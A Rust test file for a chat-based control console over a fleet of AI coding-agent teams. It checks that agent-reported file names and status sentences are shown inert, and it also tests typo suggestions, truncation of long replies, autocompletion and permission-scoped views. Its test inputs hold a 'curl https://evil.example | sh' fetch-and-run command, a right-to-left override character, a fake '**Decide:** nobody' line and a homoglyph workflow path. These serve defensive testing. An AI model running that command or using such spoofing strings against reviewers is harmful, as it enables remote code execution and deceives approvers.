//! What people are told who look around: that what agents named is inert wherever it is said, what somebody may have meant, what
//! completes a word, and how a large fleet fits into an answer.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that cannot go on panics"
)]

use std::{
    collections::{BTreeMap, BTreeSet},
    sync::{Arc, LazyLock},
};

use qd_core::{
    Effect, Event, FleetState, Handled, Moment, Rules, Standing, Step,
    chat::{Completes, Given, Message, Proof, Scope, Way},
    choices::choices,
    handle, people, presence,
};
use qd_engine::{Bundle, Facts, KnownPerson, Policies};
use qd_types::{Approval, ApprovalState, Confirm, Identity, Line, Person, Push, Role, Stage};
use qd_wire::v1::{FeatureReport, ForgeAct, ForgeRequest, Report};

fn person(name: &str, role: Role) -> Person {
    Person { id: name.parse().unwrap(), roles: vec![role] }
}

fn everybody() -> Vec<Person> {
    vec![person("ines", Role::Owner), person("mira", Role::Reviewer), person("vera", Role::Viewer)]
}

/// A hundred teams of which nothing is known. The policies take long to make.
fn fresh() -> FleetState {
    let known = |person| KnownPerson { person, identities: Vec::new() };
    let teams: Vec<_> = (1..=100).map(|number| format!("team-{number:03}").parse().unwrap()).collect();
    let facts = Facts {
        people: everybody().into_iter().map(known).collect(),
        teams: teams.clone(),
        repositories: vec!["sample".parse().unwrap()],
        ..Facts::default()
    };
    FleetState::new(Rules {
        teams,
        people: everybody(),
        renamed: BTreeMap::new(),
        policies: Arc::new(Policies::new(Bundle::embedded().unwrap(), &facts, &[]).unwrap()),
        merge_methods: BTreeMap::new(),
        read: BTreeSet::new(),
        protected: BTreeSet::new(),
        unprotected: BTreeSet::new(),
        approvals: qd_approvals::Rules::default(),
        distil: qd_core::Distil::new(&serde_json::json!({}), jiff::tz::TimeZone::UTC).unwrap(),
    })
}

struct Fleet {
    state: FleetState,
}

impl Fleet {
    fn new() -> Self {
        static FRESH: LazyLock<FleetState> = LazyLock::new(fresh);
        let mut state = FRESH.clone();
        state.listens = presence::Listens::from("2026-11-21T08:14:00Z".parse().unwrap());
        Self { state }
    }

    fn happens(&mut self, event: Event) -> Handled {
        let at = "2026-11-21T08:14:00Z".parse().unwrap();
        handle(&mut self.state, event, Moment { at, fresh: ulid::Ulid::from_parts(1, 1) })
    }

    fn report(&mut self, team: &str, report: Report) -> Vec<Effect> {
        self.happens(Event::Report { instance: team.parse().unwrap(), report: Box::new(report) }).effects
    }

    fn works(&mut self, team: &str, id: &str, title: &str, sentence: &str) -> String {
        let report = FeatureReport {
            feature: id.parse().unwrap(),
            title: title.into(),
            stage: Stage::Running,
            line: Line::default(),
            sentence: sentence.into(),
            agent: Some("claude".into()),
            pull_request: None,
            merged: None,
            seconds: None,
            needs_person: false,
            spent: None,
            repository: None,
            issue: None,
            run: None,
            question: None,
        };
        put(&self.report(team, Report::Feature(report))).text
    }

    /// A team asks to push a change of these paths; the card.
    fn asks_push(&mut self, paths: &[&str]) -> Message {
        let push = Push {
            repository: "sample".parse().unwrap(),
            branch: "qd/A-1".into(),
            head: "4".repeat(40).parse().unwrap(),
            diff: "d".repeat(64),
            paths: paths.iter().map(|path| (*path).to_owned()).collect(),
        };
        let facts = format!("{} is not only code: it runs with rights of its own. 1 file.", paths[0]);
        let act = ForgeAct::AskPush { push, requesters: vec!["mira".parse().unwrap()], words: None, facts };
        let (feature, run) = ("A-1".parse().unwrap(), "A-1.1".parse().unwrap());
        let asks = Report::ForgeRequest(ForgeRequest { id: "A-1.1/ask".into(), feature, run, act });
        let asking = self.report("team-001", asks).into_iter().find_map(|effect| match effect {
            Effect::Step(Step::Ask(asking)) => Some(asking),
            _ => None,
        });
        let asking = asking.unwrap();
        let standing = Standing {
            approval: Approval {
                id: "bot/01ARZ3NDEKTSV4RRFFQ69G5FAV".parse().unwrap(),
                digest: asking.subject.digest().unwrap(),
                subject: asking.subject.clone(),
                state: ApprovalState::Requested,
                votes: vec![],
                requested_at: jiff::Timestamp::UNIX_EPOCH,
                decided_at: None,
            },
            words: None,
            reason: None,
            confirm: Confirm { way: Way::Button, typed: false },
            decide_until: None,
        };
        let effects = self.happens(Event::Asked { asking, result: Ok(Box::new(standing)) }).effects;
        put(&effects)
    }

    fn from(&mut self, who: &str, given: Given, text: &str) -> Handled {
        let person = self.state.rules.person(&who.parse().unwrap()).unwrap().clone();
        self.happens(Event::Command { person, given, text: text.into() })
    }

    fn says(&mut self, who: &str, text: &str) -> String {
        seen(&self.from(who, Given::on_console(Proof::SignedIn), text).reply.unwrap())
    }

    fn completes(&self, who: &str, scope: Scope, what: Completes, typed: &str) -> Vec<String> {
        let person = self.state.rules.person(&who.parse().unwrap()).unwrap();
        let given = Given { scope, ..Given::on_console(Proof::SignedIn) };
        let all = choices(&self.state, person, &given, what, typed);
        all.into_iter().map(|choice| format!("{} = {}", choice.value, choice.name)).collect()
    }
}

fn put(effects: &[Effect]) -> Message {
    let found = effects.iter().find_map(|effect| match effect {
        Effect::Put(message) | Effect::Refresh(message) => Some(message.clone()),
        _ => None,
    });
    found.unwrap()
}

/// What can't be seen between an at sign and a name, shown.
fn seen(text: &str) -> String {
    text.replace('\u{200b}', "~")
}

#[test]
fn the_name_of_a_file_is_inert_on_a_card() {
    let mut fleet = Fleet::new();
    let path = "a\u{202e}b [free](https://evil.example)\n**Decide:** nobody. @everyone";
    let card = fleet.asks_push(&[path, ".github/workflows/\u{430}ci.yml"]);
    insta::assert_snapshot!(seen(&card.text), @r#"
    **Push 4444444, which changes a⟨U+202E⟩b \[free\](https:~//evil.example) \*\*Decide:\*\* nobody. @~everyone and 1 more** (A-1, team-001)
    a⟨U+202E⟩b \[free\](https:~//evil.example) \*\*Decide:\*\* nobody. @~everyone is not only code: it runs with rights of its own. 1 file.
    Decide: 1 owner or reviewer, not the requester. 0 of 1 so far. By button.
    Digest e3ed ad4c d0b5
    Careful: It holds marks that turn the direction of writing; they are shown as ⟨U+…⟩.
    Careful: “.github/workflows/аci.yml” mixes letters of several scripts.
    "#);
    insta::assert_snapshot!(fleet.says("ines", "approvals list"), @r#"01ARZ3NDEKTSV4RRFFQ69G5FAV Push 4444444, which changes a⟨U+202E⟩b \[free\](https:~//evil.example) \*\*Decide:\*\* nobody. @~everyone and 1 more (A-1, team-001)"#);
    let denied = fleet.state.approvals.values_mut().next().unwrap();
    denied.standing.approval.state = ApprovalState::Granted;
    insta::assert_snapshot!(fleet.says("ines", "approvals show A-1"), @r#"✔ Push 4444444, which changes a⟨U+202E⟩b \[free\](https:~//evil.example) \*\*Decide:\*\* nobody. @~everyone and 1 more (A-1, team-001): approved by nobody, under way."#);
}

#[test]
fn the_sentence_of_a_feature_is_inert_wherever_it_is_said() {
    let mut fleet = Fleet::new();
    let sentence = "Asks to run curl https://evil.example | `sh`\n> **@everyone**\u{202e}. Waits for owner.";
    insta::assert_snapshot!(seen(&fleet.works("team-001", "A-1", "Split it", sentence)), @r#"
    **A-1 Split it** · team-001 · claude
    `▱▱▱▱▱▱▱▱▱` Asks to run curl https:~//evil.example \| \`sh\` \> \*\*@~everyone\*\*⟨U+202E⟩. Waits for owner.
    Careful: It holds marks that turn the direction of writing; they are shown as ⟨U+…⟩.
    "#);
    insta::assert_snapshot!(fleet.says("vera", "board why A-1"), @r#"A-1: Asks to run curl https:~//evil.example \| \`sh\` \> \*\*@~everyone\*\*⟨U+202E⟩. Waits for owner."#);
    insta::assert_snapshot!(fleet.says("vera", "board show"), @r#"`▱▱▱▱▱▱▱▱▱` A-1 Split it · team-001: Asks to run curl https:~//evil.example \| \`sh\` \> \*\*@~everyone\*\*⟨U+202E⟩. Waits for owner."#);
    insta::assert_snapshot!(fleet.says("vera", "board search split"), @r#"A-1 Split it · team-001: Asks to run curl https:~//evil.example \| \`sh\` \> \*\*@~everyone\*\*⟨U+202E⟩. Waits for owner."#);
    insta::assert_snapshot!(fleet.says("vera", "feature show A-1"), @r#"
    **A-1 Split it** · team-001 · claude
    `▱▱▱▱▱▱▱▱▱` Asks to run curl https:~//evil.example \| \`sh\` \> \*\*@~everyone\*\*⟨U+202E⟩. Waits for owner.
    Careful: It holds marks that turn the direction of writing; they are shown as ⟨U+…⟩.
    "#);
}

#[test]
fn whoever_names_what_there_is_not_hears_the_nearest_right_thing() {
    let mut fleet = Fleet::new();
    fleet.works("team-001", "A-142", "Split it", "Claude works.");
    fleet.asks_push(&["ci.yml"]);
    let said = [
        "team pause team-0011",
        "fleet status taem-002",
        "standup schedule tem-003",
        "board show team-1",
        "feature add --team teem-004 -- Say hello",
        "policy explain merge nowhere",
        "feature show A-143",
        "approve A-11",
        "approve 01ARZ3NDEQTSV4",
        "person mirra",
        "help feture",
        "person mira now",
    ]
    .map(|line| format!("{line}\n  {}", fleet.says("ines", line)));
    insta::assert_snapshot!(said.join("\n"), @r#"
    team pause team-0011
      There is no team team-0011. Did you mean team-001? There is team-001, team-002, team-003, team-004, team-005, team-006, team-007, team-008, team-009, team-010 and 90 more.
    fleet status taem-002
      There is no team taem-002. Did you mean team-002? There is team-001, team-002, team-003, team-004, team-005, team-006, team-007, team-008, team-009, team-010 and 90 more.
    standup schedule tem-003
      There is no team tem-003. Did you mean team-003? There is team-001, team-002, team-003, team-004, team-005, team-006, team-007, team-008, team-009, team-010 and 90 more.
    board show team-1
      There is no team team-1. Did you mean team-001? There is team-001, team-002, team-003, team-004, team-005, team-006, team-007, team-008, team-009, team-010 and 90 more.
    feature add --team teem-004 -- Say hello
      There is no team teem-004. Did you mean team-004? There is team-001, team-002, team-003, team-004, team-005, team-006, team-007, team-008, team-009, team-010 and 90 more.
    policy explain merge nowhere
      There is no team nowhere. There is team-001, team-002, team-003, team-004, team-005, team-006, team-007, team-008, team-009, team-010 and 90 more.
    feature show A-143
      No team has reported a feature A-143. Did you mean A-142?
    approve A-11
      Nothing is asked under A-11. Did you mean A-1? What waits: `approvals list`
    approve 01ARZ3NDEQTSV4
      Nothing is asked under 01ARZ3NDEQTSV4. Did you mean 01ARZ3NDEKTSV4? What waits: `approvals list`
    person mirra
      Nobody here is called mirra. Did you mean mira?
    help feture
      I don't know "feture". Did you mean feature? Type help for all commands.
    person mira now
      person takes one name. What does "now" mean?
    "#);
}

#[test]
fn a_large_fleet_fits_into_an_answer() {
    let mut fleet = Fleet::new();
    for number in 1..=100 {
        let team = format!("team-{number:03}");
        fleet.works(&team, &format!("F{}-{number}", "X".repeat(number % 5)), "Split it", "Claude works.");
    }
    fleet.works("team-077", "Z-1", "Say hello", "Claude works.");
    fleet.state.features.values_mut().last().unwrap().needs_person = true;
    for line in ["fleet teams", "fleet cost", "fleet status", "board show", "approvals list"] {
        let said = fleet.says("ines", line);
        assert!(said.chars().count() < 2_000, "{line}: {} characters", said.chars().count());
    }
    insta::assert_snapshot!(fleet.says("ines", "fleet teams"), @"
    team-100: running 1, blocked 1
    team-001: running 1
    team-002: running 1
    team-003: running 1
    team-004: running 1
    team-005: running 1
    team-006: running 1
    team-007: running 1
    team-008: running 1
    team-009: running 1
    team-010: running 1
    team-011: running 1
    team-012: running 1
    team-013: running 1
    team-014: running 1
    team-015: running 1
    team-016: running 1
    team-017: running 1
    team-018: running 1
    team-019: running 1
    And 80 more: team-020, team-021, team-022, team-023, team-024, team-025, team-026, team-027, team-028, team-029, team-030, team-031, team-032, team-033, team-034, team-035, team-036, team-037, team-038, team-039, team-040, team-041, team-042, team-043, team-044, team-045, team-046, team-047, team-048, team-049, team-050, team-051, team-052, team-053, team-054, team-055, team-056, team-057, team-058, team-059, team-060, team-061, team-062, team-063, team-064, team-065, team-066, team-067, team-068, team-069, team-070, team-071, team-072, team-073, team-074, team-075, team-076, team-077, team-078, team-079, team-080, team-081, team-082, team-083, team-084, team-085, team-086, team-087, team-088, team-089 and 10 more
    One of them: `fleet status TEAM`
    ");
    insta::assert_snapshot!(fleet.says("ines", "fleet cost").lines().last().unwrap(), @"and 31 more");
}

#[test]
fn what_fits_comes_first_and_only_then_it_is_cut() {
    let mut fleet = Fleet::new();
    for number in 1..=60 {
        fleet.works("team-001", &format!("A-{number}"), "Split *it*", "Claude works.");
    }
    fleet.works("team-002", "B-7", "Say \u{202e}hello", "Claude works.");
    let all = |what, typed| fleet.completes("ines", Scope::Fleet, what, typed);
    let features = all(Completes::Features, "");
    assert_eq!((features.len(), features[0].as_str()), (25, "A-60 = A-60 Split *it* · team-001"));
    insta::assert_snapshot!(all(Completes::Features, "a-5").join("\n"), @"
    A-59 = A-59 Split *it* · team-001
    A-58 = A-58 Split *it* · team-001
    A-57 = A-57 Split *it* · team-001
    A-56 = A-56 Split *it* · team-001
    A-55 = A-55 Split *it* · team-001
    A-54 = A-54 Split *it* · team-001
    A-53 = A-53 Split *it* · team-001
    A-52 = A-52 Split *it* · team-001
    A-51 = A-51 Split *it* · team-001
    A-50 = A-50 Split *it* · team-001
    A-5 = A-5 Split *it* · team-001
    ");
    insta::assert_snapshot!(all(Completes::Features, "HELLO").join("\n"), @"B-7 = B-7 Say ⟨U+202E⟩hello · team-002");
    insta::assert_snapshot!(all(Completes::Teams, "99").join("\n"), @"team-099 = team-099: nothing reported yet");
    insta::assert_snapshot!(all(Completes::Agents, "").join("\n"), @"claude = claude");
    insta::assert_snapshot!(all(Completes::People, "").join("\n"), @"
    ines = ines: owner
    mira = mira: reviewer
    vera = vera: viewer
    ");
    insta::assert_snapshot!(all(Completes::Actions, "policy.v").join("\n"), @"policy.view = policy.view: See, check and explain policies");
    // From a place that has one team, the others are not there, and nobody but oneself.
    let only = Scope::Only(vec!["team-002".parse().unwrap()]);
    let here = |what| fleet.completes("ines", only.clone(), what, "");
    insta::assert_snapshot!([here(Completes::Features), here(Completes::Teams), here(Completes::People)].concat().join("\n"), @"
    B-7 = B-7 Say ⟨U+202E⟩hello · team-002
    team-002 = team-002: running 1
    ines = ines: owner
    ");
}

#[test]
fn approvals_complete_by_what_they_are_about() {
    let mut fleet = Fleet::new();
    fleet.asks_push(&["ci.yml"]);
    let all = |fleet: &Fleet, what, typed| fleet.completes("ines", Scope::Fleet, what, typed).join("\n");
    insta::assert_snapshot!(all(&fleet, Completes::Approvals, "CI.YML"), @"01ARZ3NDEKTSV4RRFFQ69G5FAV = A-1 Push 4444444, which changes ci.yml · team-001");
    assert_eq!(all(&fleet, Completes::Expired, "") + &all(&fleet, Completes::Questions, ""), "");
    fleet.state.approvals.values_mut().next().unwrap().standing.approval.state = ApprovalState::Expired;
    assert_eq!(all(&fleet, Completes::Approvals, ""), "");
    insta::assert_snapshot!(all(&fleet, Completes::Expired, "01ARZ3"), @"01ARZ3NDEKTSV4RRFFQ69G5FAV = A-1 Push 4444444, which changes ci.yml · team-001");
}

#[test]
fn somebody_is_shown_to_whoever_may_see_them() {
    let mut fleet = Fleet::new();
    fleet.asks_push(&["ci.yml"]);
    insta::assert_snapshot!(fleet.says("vera", "person"), @"You are vera: viewer. 0 of what is asked may be decided by you.");
    insta::assert_snapshot!(fleet.says("ines", "person vera"), @"vera: viewer. 0 of what is asked may be decided by them.");
    insta::assert_snapshot!(fleet.says("vera", "person ines"), @"ines: owner. 1 of what is asked may be decided by them.");
    let accounts = |fleet: &mut Fleet, who: &str, line: &str| {
        fleet.from(who, Given::on_console(Proof::SignedIn), line).accounts.map(|id| id.to_string())
    };
    assert_eq!(accounts(&mut fleet, "vera", "person").as_deref(), Some("vera"), "one's own");
    assert_eq!(accounts(&mut fleet, "ines", "person vera").as_deref(), Some("vera"), "an owner links them");
    assert_eq!(accounts(&mut fleet, "vera", "person ines"), None, "a viewer does not");
    let identity =
        |service: &str, account: &str| Identity { service: service.into(), account: account.into() };
    insta::assert_snapshot!(people::accounts(&[identity("discord", "1002"), identity("github", "vera")]), @"Linked accounts: discord:1002, github:vera.");
    let elsewhere =
        Given { scope: Scope::Only(vec!["team-001".parse().unwrap()]), ..Given::on_console(Proof::SignedIn) };
    insta::assert_snapshot!(fleet.from("ines", elsewhere, "person vera").reply.unwrap(), @"People are the whole fleet's: they are shown where the whole fleet is commanded.");
}

#[test]
fn help_is_told_in_the_words_of_the_surface() {
    let mut fleet = Fleet::new();
    let mut discord = |line: &str| {
        let given = Given {
            surface: "discord".into(),
            account: Some("1".into()),
            ..Given::on_console(Proof::SignedIn)
        };
        fleet.from("vera", given, line).reply.unwrap()
    };
    let (groups, one) = (discord("help"), discord("help vm"));
    assert!(groups.contains("`/feature` add, show"), "{groups}");
    insta::assert_snapshot!(one.lines().take(4).collect::<Vec<_>>().join("\n"), @"
    **/vm list** Machines of teams, and how far each is
    **/vm plan** What a team's machine would take, and who decides
      team: Whose machine
      cluster: One of several clusters, by its name
    ");
    assert_eq!(fleet.says("vera", "help"), qd_command::help());
    insta::assert_snapshot!(fleet.says("vera", "help approve"), @"
    approve ID [NAME]                    Say yes to what is asked
      id: The id on the card, or a feature like A-142
      name: What it is done to, where a card asks for that
    ");
}
